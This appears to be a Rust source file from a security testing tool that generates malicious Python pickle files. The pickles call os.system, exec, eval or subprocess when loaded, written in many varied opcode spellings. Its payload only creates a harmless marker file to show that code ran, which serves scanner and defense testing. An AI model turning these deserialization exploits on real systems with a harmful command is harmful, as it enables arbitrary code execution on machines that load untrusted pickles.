//! What the attacks do: opcodes that make a file named [`MARKER`] in the working directory, in many spellings.

use super::Chance;

/// The file by which one sees that a payload was run.
pub const MARKER: &str = "coldload-was-run";

/// A function, and what it is called with to make the marker.
#[derive(Debug, Clone, Copy)]
pub(super) struct Function {
    module: &'static str,
    name: &'static str,
    arguments: &'static [&'static str],
}

const SHELL: &[&str] = &["touch coldload-was-run"];
const PYTHON: &[&str] = &["open('coldload-was-run', 'w').close()"];
/// Functions of one argument come first: `__setstate__` gets one.
const FUNCTIONS: [Function; 6] = [
    Function { module: "os", name: "system", arguments: SHELL },
    Function { module: "posix", name: "system", arguments: SHELL },
    Function { module: "builtins", name: "exec", arguments: PYTHON },
    Function { module: "builtins", name: "eval", arguments: PYTHON },
    Function { module: "subprocess", name: "getoutput", arguments: SHELL },
    Function { module: "builtins", name: "open", arguments: &[MARKER, "w"] },
];
const ONE_ARGUMENT: usize = 5;

impl Function {
    pub(super) fn any(chance: &mut Chance) -> Function {
        FUNCTIONS.get(chance.below(FUNCTIONS.len())).copied().unwrap_or(FUNCTIONS[0])
    }

    /// One that is called with one text.
    pub(super) fn of_one(chance: &mut Chance) -> Function {
        FUNCTIONS.get(chance.below(ONE_ARGUMENT)).copied().unwrap_or(FUNCTIONS[0])
    }

    pub(super) fn fetch(self, chance: &mut Chance) -> Vec<u8> {
        name(self.module, self.name, chance)
    }

    pub(super) fn module(self) -> &'static str {
        self.module
    }

    pub(super) fn name(self) -> &'static str {
        self.name
    }

    /// The arguments, each as an opcode.
    pub(super) fn arguments(self, chance: &mut Chance) -> Vec<u8> {
        self.arguments.iter().flat_map(|argument| text(argument, chance)).collect()
    }

    /// The call: its result is on the stack.
    pub(super) fn call(self, chance: &mut Chance) -> Vec<u8> {
        [self.fetch(chance), b"(".to_vec(), self.arguments(chance), b"tR".to_vec()].concat()
    }

    /// A whole pickle that calls it.
    pub(super) fn pickle(self, chance: &mut Chance) -> Vec<u8> {
        let protocol = chance.below(6);
        let head = if protocol < 2 { Vec::new() } else { vec![0x80, u8::try_from(protocol).unwrap_or(4)] };
        [head, self.call(chance), b".".to_vec()].concat()
    }
}

/// A text, in one of the spellings in which it is the same text for every reader.
pub(super) fn text(text: &str, chance: &mut Chance) -> Vec<u8> {
    let length = u32::try_from(text.len()).unwrap_or(0);
    match (u8::try_from(length), chance.below(4)) {
        (Ok(short), 0 | 1) => [&[0x8c, short], text.as_bytes()].concat(),
        (_, 2) => [b"V", text.as_bytes(), b"\n"].concat(),
        _ => [b"X", &length.to_le_bytes()[..], text.as_bytes()].concat(),
    }
}

/// A name, in one of the spellings in which it is fetched.
pub(super) fn name(module: &str, name: &str, chance: &mut Chance) -> Vec<u8> {
    match chance.below(3) {
        0 => global(module, name),
        _ => [text(module, chance), text(name, chance), vec![0x93]].concat(),
    }
}

pub(super) fn global(module: &str, name: &str) -> Vec<u8> {
    format!("c{module}\n{name}\n").into_bytes()
}
